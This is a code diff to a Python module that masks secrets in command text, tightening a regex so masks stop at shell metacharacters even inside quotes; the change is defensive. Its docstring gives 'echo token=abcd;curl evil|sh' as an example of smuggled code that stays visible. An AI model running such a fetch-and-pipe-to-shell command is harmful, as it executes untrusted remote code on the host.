@@ -6,8 +6,9 @@ daemon loaded from its environment) are masked wherever they appear in text.
 
 A mask replaces the secret value and nothing else. In ``key=value`` and URL-password forms
 the value ends at whitespace, a quote, a shell metacharacter (``; | & $ ( ) < > ` \\``), a
-brace, or any control or format character, so text after a secret-looking word is never
-swallowed: ``echo token=x;curl evil|sh`` masks ``x`` and keeps ``;curl evil|sh`` in view.
+brace, or any control or format character, even inside quotes, so text after a
+secret-looking word is never swallowed: ``echo token=abcd;curl evil|sh`` masks ``abcd``
+and keeps ``;curl evil|sh`` in view.
 :func:`scrub_text` reports whether it masked anything through :func:`scrub_text_noting`, so
 the approval summary can say that an argument contains a masked value.
 
@@ -63,16 +64,10 @@ _SECRET_PATTERNS = [
 ]
 
 _KEY = r"(?i)\b(?P<key>[A-Za-z0-9_.-]*(?:password|passwd|pwd|secret|token|api[_-]?key))"
-#: ``password=…``, ``api_key: …`` and the like: the key is kept, the value masked. Inside
-#: closed single quotes the value runs to the closing quote (the shell reads it literally
-#: there); inside closed double quotes too, unless it holds ``$``, a backquote or a
-#: backslash, which the shell still expands; unquoted, it stops at any metacharacter.
-_KEY_VALUE = re.compile(
-    rf"{_KEY}(?:"
-    rf"(?P<sq> *[=:] *')(?P<sqv>[^'{_INVISIBLE}]{{4,}})(?=')"
-    rf"|(?P<dq> *[=:] *\")(?P<dqv>[^\"$`\\{_INVISIBLE}]{{4,}})(?=\")"
-    rf"|(?P<sep> *[=:] *)(?P<value>{_VALUE}{{4,}}))"
-)
+#: ``password=…``, ``api_key: …`` and the like: the key is kept, the value masked. The value
+#: stops at the first metacharacter even inside quotes: quoting can be undone by another
+#: level of evaluation (``sh -c``, ``eval``), so a quote never lets a mask swallow code.
+_KEY_VALUE = re.compile(rf"{_KEY}(?P<sep> *[=:] *['\"]?)(?P<value>{_VALUE}{{4,}})")
 #: The same forms for logs, where masking too much is harmless: the value runs to the next
 #: whitespace or quote.
 _KEY_VALUE_GREEDY = re.compile(rf"{_KEY}(?P<sep>\s*[=:]\s*['\"]?)(?P<value>[^\s'\"]{{4,}})")
@@ -124,14 +119,9 @@ def _mask_whole(match: re.Match[str]) -> str:
 
 
 def _mask_value(match: re.Match[str]) -> str:
-    groups = match.groupdict()
-    for sep, value in (("sq", "sqv"), ("dq", "dqv"), ("sep", "value")):
-        found = groups.get(value)
-        if found is not None:
-            if found.startswith(MASK):
-                return match.group(0)
-            return f"{groups['key']}{groups[sep]}{MASK}"
-    return match.group(0)
+    if match.group("value").startswith(MASK):
+        return match.group(0)
+    return f"{match.group('key')}{match.group('sep')}{MASK}"
 
 
 def _mask_url_password(match: re.Match[str]) -> str:
